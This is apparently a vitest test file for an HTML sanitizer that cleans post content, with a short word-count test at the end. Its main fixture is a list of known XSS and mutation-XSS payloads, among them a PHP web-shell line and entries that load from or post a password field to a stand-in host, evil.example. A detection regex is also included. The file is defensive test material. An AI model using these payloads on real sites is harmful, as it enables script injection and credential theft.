import fc from 'fast-check'
import { expect, test } from 'vitest'
import { bodyToSend } from './clean-body.ts'
import { countWords, plainText } from './post-text.ts'
import { cleanedBody, sanitizePostHtml } from './sanitize-post-html.ts'

const image = '/api/images/3fa85f64-5717-4562-b3fc-2c963f66afa6'

/** What browsers have run in other products: none of it may leave a way to run, load or submit anything. */
const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" onerror="alert(1)" srcset="javascript:alert(1)" alt="a">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="/api/logout">',
  '<img src="//evil.example/pixel.png">',
  '<img src="https://user:pass@evil.example/x.png">',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><rect/><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="//www.youtube.com@evil.example/embed/x"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>Go</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1));position:fixed;text-align:center">x</p>',
  '<p style="text-align:center;behavior:url(#x)" class="admin" id="root">x</p>',
  '<div data-youtube-video onmouseover=alert(1)><p>x</p></div>',
  '<a href="https://a.example" ping="https://evil.example" onclick=alert(1) target=_top>x</a>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<?php system($_GET[0]); ?>',
  '<p>[gallery]<![CDATA[<script>alert(1)</script>]]></p>',
  '<textarea><script>alert(1)</script></textarea>',
  '<select><style></select><script>alert(1)</script>',
  '<b><b><b><a href="https://a.example/\u0000javascript:alert(1)">x</a>',
]

const danger =
  /<(?:script|style|svg|math|form|input|button|object|embed|base|link|meta|video|audio|template|xmp|textarea|!--|\?)|\son\w+\s*=|"\s*(?:javascript|vbscript|data):|srcdoc|evil\.example|position|behavior|url\(|class=|\sid=|ping=/i

test('[API-066] hostile HTML loses all that could run, load from elsewhere or submit', () => {
  for (const html of hostile) {
    const clean = sanitizePostHtml(`<p>before</p>${html}<p>after</p>`)
    const attributes = clean.match(/<[^>]*>/g)?.join('') ?? ''
    expect(attributes, html).not.toMatch(danger)
    expect(sanitizePostHtml(clean), html).toBe(clean)
  }
})

test('[API-066] everything the editor makes stays as it is', () => {
  const post = [
    '<h2 style="text-align:center">Head</h2>',
    '<p>One <strong>two</strong> <em>three</em> <u>u</u> <s>s</s><br />x</p>',
    '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote><p>q</p></blockquote><hr />',
    '<pre><code>let a = 1 &lt; 2</code></pre>',
    '<table><tbody><tr><th colspan="2">h</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>',
    `<figure><img src="${image}" alt="Bag" width="10" height="20" /><figcaption>A bag</figcaption></figure>`,
    '<img src="https://shop.example/a.jpg" alt="Bag" />',
    '<a href="https://shop.example/care" target="_blank" rel="noopener noreferrer">care</a>',
    '<a href="mailto:shop@example.com">mail</a>',
    '<div data-youtube-video><iframe src="https://www.youtube-nocookie.com/embed/x" width="640" height="480" allowfullscreen></iframe></div>',
  ]
  for (const html of post) expect(sanitizePostHtml(html)).toBe(html)
})

test('[API-066] cleaning again changes nothing, whatever came in', () => {
  const part = fc.oneof(
    fc.constantFrom(...hostile),
    fc.constantFrom(
      '<p>',
      '</p>',
      '<',
      '>',
      '"',
      "'",
      '&lt;',
      '&amp;lt;',
      '<a href=',
      '<!--',
      '-->',
      '</script>',
      '<li>',
      '<iframe src="https://player.vimeo.com/video/1">',
      '</iframe>',
      '<plaintext>',
      '<noembed>',
      '</noembed>',
      '<p style="color:red; text-align: center">',
    ),
    fc.string({ maxLength: 12 }),
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
      const clean = sanitizePostHtml(parts.join(''))
      return sanitizePostHtml(clean) === clean
    }),
    { numRuns: 1500 },
  )
})

test('[API-066] a body that other rules cleaned, or none, is cleaned again before it is sent', async () => {
  const body = '<p>Wool<script>steal()</script></p>'
  expect(await bodyToSend('a', { body, bodyCleanedBy: null })).toBe('<p>Wool</p>')
  expect(await bodyToSend('a', { body, bodyCleanedBy: '2.0.0-older' })).toBe('<p>Wool</p>')
  const clean = cleanedBody(sanitizePostHtml(body))
  expect(await bodyToSend('a', clean)).toBe('<p>Wool</p>')
  expect(await bodyToSend('a', { body: null, bodyCleanedBy: null })).toBe('')
})

test('[API-066] what goes leaves its neighbours as they are', () => {
  const beside = '<b>b</b> c <i>d</i>'
  for (const gone of [
    '<img src=x>',
    '<img alt="x">',
    '<iframe src="https://evil.example/">x</iframe>',
    '<iframe><b>x</b></iframe>',
    '<script>x</script>',
  ])
    expect(sanitizePostHtml(`<p>a ${gone}${beside}</p>`), gone).toBe(`<p>a ${beside}</p>`)
  const links = ['https://shop.example/care/']
  const known = '<a href="https://www.shop.example/care" rel="noopener noreferrer">care</a>'
  expect(sanitizePostHtml(`<p>${known} <a href="/x">e</a>${beside}</p>`, links)).toBe(
    `<p>${known} e${beside}</p>`,
  )
})

test('[API-066] an ampersand stays one, wherever it stands and however often the post is saved', () => {
  const link =
    '<a href="https://a.example/?a=1&amp;b=2" title="x &amp; y" rel="noopener noreferrer">z &amp; z</a>'
  const player = '<iframe src="https://player.vimeo.com/video/1?a=1&amp;b=2"></iframe>'
  const clean = `<p>a &amp; b ${link}</p><pre>c &amp;amp; d</pre>${player}`
  expect(sanitizePostHtml(clean)).toBe(clean)
  expect(sanitizePostHtml(clean.replace('</iframe>', 'No frames & no players</iframe>'))).toBe(clean)
})

test('[ENT-13] words are counted across blocks and not in tags', () => {
  expect(plainText('<h2>One</h2><p>two&nbsp;three<br>four</p><ul><li>five</li><li>— six</li></ul>')).toBe(
    'One two three four five — six',
  )
  expect([countWords(''), countWords('<p></p>'), countWords('<p>— one, two.</p>')]).toEqual([0, 0, 2])
})
